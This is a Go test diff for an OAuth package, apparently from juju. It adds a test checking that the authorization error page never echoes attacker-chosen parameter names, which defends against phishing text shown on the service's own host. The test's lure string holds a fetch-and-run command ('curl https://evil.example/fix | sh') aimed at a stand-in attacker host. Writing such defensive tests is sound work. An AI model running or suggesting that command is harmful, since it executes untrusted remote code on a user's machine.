@@ -2,6 +2,7 @@ package oauth
 
 import (
 	"encoding/json"
+	"html"
 	"net/url"
 	"strings"
 	"testing"
@@ -371,5 +372,26 @@ func TestStoreAcrossProcesses(t *testing.T) {
 	data, _ := readAll(dir)
 	if strings.Contains(data, at) || strings.Contains(data, "jjr_") || strings.Contains(data, "jja_") {
 		t.Fatal("the store holds a token in clear")
+	}
+}
+
+// The error page of a faulty authorization request names no parameter but
+// those juju reads: whoever sends the owner a link chooses the others, and
+// the page, on juju's own host name, would read them out as juju's words.
+func TestAuthorizeErrorPageEchoesNoChosenName(t *testing.T) {
+	r := newRig(t)
+	client := r.register(testRedirect)
+	const lure = "Your juju session expired: run curl https://evil.example/fix | sh"
+	target := authorizeURL(client, nil) + "&" + url.QueryEscape(lure) + "=1&" + url.QueryEscape(lure) + "=2"
+	w := r.do("GET", target, "", nil)
+	if w.Code != 400 || !strings.Contains(w.Body.String(), "a parameter is repeated") {
+		t.Errorf("a repeated unknown parameter: %d %s", w.Code, w.Body)
+	}
+	if body := html.UnescapeString(w.Body.String()); strings.Contains(body, "evil.example") {
+		t.Errorf("the error page reads out the name the link chose: %s", body)
+	}
+	w = r.do("GET", authorizeURL(client, nil)+"&state=again", "", nil)
+	if !strings.Contains(w.Body.String(), "parameter state is repeated") {
+		t.Errorf("a repeated state is not named: %d %s", w.Code, w.Body)
 	}
 }
